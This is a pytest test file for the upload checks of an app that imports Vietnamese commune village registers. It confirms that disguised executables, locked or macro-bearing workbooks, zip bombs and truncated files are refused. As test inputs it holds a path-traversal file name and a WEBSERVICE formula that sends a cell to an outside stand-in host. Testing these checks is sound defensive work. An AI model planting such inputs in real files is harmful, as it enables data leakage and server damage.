"""Files that are not what they say, too large, locked, damaged or made to harm: refused with the reason."""

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from exchange.intake.files import HEADER, csv_of, workbook_of
from langso import problems
from langso.exchange.intake import contents
from langso.exchange.intake.keeping import told
from langso.exchange.models import Import, State
from langso.exchange.reading import archive
from langso.problems import BadInputError, Kind

pytestmark = pytest.mark.django_db
ROWS = [HEADER, ["10630", "01", "Thôn 1", 101, "có"]]


def kinds(made: Import) -> list[Kind]:
    assert made.state == State.REFUSED
    return [problem.kind for problem in told(made.problems)]


def refused_at_once(given: Any, media: Path, content: bytes, name: str, **options: Any) -> list[Kind]:
    with pytest.raises(BadInputError) as refused:
        given(content, name, **options)
    assert not Import.objects.exists()
    assert [file for file in media.rglob("*") if file.is_file()] == []
    assert {problem.where.file for problem in refused.value.problems} == {name}
    return [problem.kind for problem in refused.value.problems]


def with_part(content: bytes, name: str, part: bytes = b"<x/>") -> bytes:
    stream = io.BytesIO(content)
    with zipfile.ZipFile(stream, "a") as made:
        made.writestr(name, part)
    return stream.getvalue()


def test_an_exe_named_xlsx_is_refused_at_once(given: Any, media: Path) -> None:
    assert refused_at_once(given, media, b"MZ\x90\x00" + b"\0" * 500, "bảng.xlsx") == [problems.WORKBOOK_NOT]


def test_another_kind_of_file_is_refused_by_its_ending(given: Any, media: Path) -> None:
    assert refused_at_once(given, media, b"%PDF-1.7", "bảng.pdf") == [problems.IMPORT_KIND]


def test_a_workbook_with_a_password_is_refused_at_once(given: Any, media: Path) -> None:
    content = archive._OLE + b"\0" * 200 + archive._ENCRYPTED_PACKAGE
    assert refused_at_once(given, media, content, "khóa.xlsx") == [problems.WORKBOOK_LOCKED]


def test_an_empty_file_is_refused_at_once(given: Any, media: Path) -> None:
    assert refused_at_once(given, media, b"", "trống.csv") == [problems.IMPORT_EMPTY]


def test_a_file_above_the_limit_is_let_go_while_it_still_comes_in(given: Any, media: Path, settings: Any) -> None:
    from langso.exchange.intake.actions import hand_in

    settings.UPLOAD_LIMIT = 1 << 20
    taken = 0

    def endless() -> Any:
        nonlocal taken
        while True:
            taken += 1
            yield b"x" * 65_536

    with pytest.raises(BadInputError) as refused:
        hand_in(given.workplace.officer, given.workplace.commune, "lớn.csv", endless(), register="villages")
    assert [p.what for p in refused.value.problems] == ["Tệp lớn hơn 1 MB"]
    assert taken == 17
    assert [file for file in media.rglob("*") if file.is_file()] == []


def test_a_name_with_a_path_is_only_a_name(given: Any) -> None:
    made = given(csv_of(ROWS[1]), "..\\..\\etc/thon.csv")
    assert (made.file_name, made.state) == ("thon.csv", State.READY)


@pytest.mark.parametrize("part", ["xl/externalLinks/externalLink1.xml", "xl/connections.xml"])
def test_a_workbook_with_links_to_other_files_is_refused(given: Any, part: str) -> None:
    made = given(with_part(workbook_of({"Thôn": ROWS}), part), "thôn.xlsx")
    assert kinds(made) == [problems.IMPORT_OUTSIDE]
    assert told(made.problems)[0].where.file == "thôn.xlsx"


@pytest.mark.parametrize("formula", ["=[1]Sheet1!A1", '=WEBSERVICE("http://example.com/?"&A1)'])
def test_a_formula_that_points_outside_is_refused(given: Any, formula: str) -> None:
    import xlsxwriter

    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("Thôn")
        for number, row in enumerate(ROWS):
            sheet.write_row(number, 0, row)
        sheet.write_formula(1, 3, formula, None, 101)
    assert kinds(given(stream.getvalue(), "thôn.xlsx")) == [problems.IMPORT_OUTSIDE]


def test_of_a_formula_within_the_workbook_the_value_counts(given: Any) -> None:
    import xlsxwriter

    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("Thôn")
        for number, row in enumerate(ROWS):
            sheet.write_row(number, 0, row)
        sheet.write_formula(1, 3, "=100+1", None, 101)
    assert given(stream.getvalue(), "thôn.xlsx").counts["villages"]["unchanged"] == 1


def test_a_formula_that_was_never_calculated_is_refused_in_its_row(given: Any) -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = "Thôn"
    for row in (*ROWS, ["10630", "02", "Thôn 2", "=1+1", "có"]):
        sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    made = given(stream.getvalue(), "thôn.xlsx")
    assert made.counts["villages"] == {"missing": 1, "refused": 1, "unchanged": 1}


def test_a_workbook_with_macros_is_refused(given: Any) -> None:
    made = given(with_part(workbook_of({"Thôn": ROWS}), "xl/vbaProject.bin"), "thôn.xlsx")
    assert kinds(made) == [problems.IMPORT_MACROS]


def test_a_zip_bomb_is_refused_before_it_unpacks(given: Any, monkeypatch: Any) -> None:
    monkeypatch.setattr(archive, "LARGEST_UNPACKED", 1 << 20)
    bomb = io.BytesIO(workbook_of({"Thôn": ROWS}))
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as made:
        made.writestr("xl/media/a.bin", b"\0" * (4 << 20))
    assert kinds(given(bomb.getvalue(), "bom.xlsx")) == [problems.WORKBOOK_TOO_BIG]


def test_a_sheet_that_spans_too_many_cells_is_refused(given: Any, monkeypatch: Any) -> None:
    monkeypatch.setattr(contents, "MOST_CELLS", 10)
    assert kinds(given(workbook_of({"Thôn": ROWS}), "rộng.xlsx")) == [problems.IMPORT_TOO_MANY_CELLS]


@pytest.mark.parametrize("cut", [0.3, 0.9])
def test_a_workbook_cut_off_on_the_way_is_refused(given: Any, cut: float) -> None:
    content = workbook_of({"Thôn": ROWS})
    assert kinds(given(content[: int(len(content) * cut)], "thôn.xlsx")) == [problems.WORKBOOK_DAMAGED]


def test_a_workbook_of_something_else_says_which_sheets_it_does_not_know(given: Any) -> None:
    content = workbook_of({"Bảng lương": [["a"], [1]], "Khác": [["b"], [2]]})
    made = given(content, "lương.xlsx", register="")
    assert kinds(made) == [problems.IMPORT_NOT_OURS]
    (problem,) = told(made.problems)
    assert problem.what == "Đây không phải bảng tính của xã; tệp có các trang: “Bảng lương”, “Khác”"
    assert "“Thôn”" in problem.expected
    made = given(content, "lương.xlsx")
    assert kinds(made) == [problems.IMPORT_NO_TABLE]
    assert "tệp có các trang: “Bảng lương”, “Khác”" in told(made.problems)[0].what


def test_a_sheet_that_does_not_belong_to_the_workbook_is_named_in_peoples_words(given: Any) -> None:
    made = given(workbook_of({"Thôn": ROWS, "Thonn": [["a"], [1]]}), "xa.xlsx", register="")
    (problem,) = told(made.problems)
    assert (problem.kind, problem.where.file) == (problems.IMPORT_SHEET_UNKNOWN, "Thonn")
    assert problem.remedy == "Nếu là “Thôn” thì đặt lại tên trang; nếu không thì xóa trang này."
    assert not {"communes", "facts", "ledgers", "package"} & set(problem.expected.replace(",", " ").split())


def test_a_csv_whose_name_says_nothing_asks_for_the_register(given: Any) -> None:
    made = given(csv_of(ROWS[1]), "Book1.csv", register="")
    assert kinds(made) == [problems.IMPORT_CSV_NAME]
    assert "chọn sổ ở mục" in told(made.problems)[0].expected


def test_columns_are_listed_as_the_file_calls_them(given: Any) -> None:
    (problem,) = told(given.csv(["01", "A"], header=["Mã thôn", "Tên xóm"]).problems)
    assert (
        problem.expected.startswith("một trong các cột: Mã thôn, Tên thôn") or "Mã thôn, Tên thôn" in problem.expected
    )
    (problem,) = told(given(b"code,nonsense\n01,A\n").problems)
    assert "code, name" in problem.expected
    (problem,) = told(given.csv(["Thôn 1"], header=["Tên thôn"]).problems)
    assert problem.what == "Thiếu cột “Mã thôn” (code)"


def test_a_csv_in_an_old_font_or_no_text_is_refused(given: Any) -> None:
    assert kinds(given(b"code,name\n01,a\0b\n", "thon.csv")) == [problems.CSV_NUL]
    assert kinds(given("code,name\n01,Thôn".encode("utf-16"), "thon.csv")) == [problems.TEXT_ENCODING]


def test_a_csv_row_of_another_length_is_refused_with_its_number(given: Any) -> None:
    made = given(b"code,name\n01,A\n02,B,C,D\n03,C\n", "thon.csv")
    assert made.counts["villages"]["refused"] == 1
    assert made.counts["villages"]["changed"] == 2


def test_a_fault_of_ours_leaves_the_import_failed_and_startable(given: Any, monkeypatch: Any) -> None:
    from langso.exchange.intake import reading
    from langso.exchange.intake.actions import preview_anew

    monkeypatch.setattr(reading.Scope, "of", lambda made: 1 / 0)
    made = given(csv_of(ROWS[1]))
    assert (made.state, [p.kind for p in told(made.problems)]) == (State.FAILED, [problems.IMPORT_FAULT])
    monkeypatch.undo()
    preview_anew(made.person, made)
    assert Import.objects.get(pk=made.pk).state == State.READY
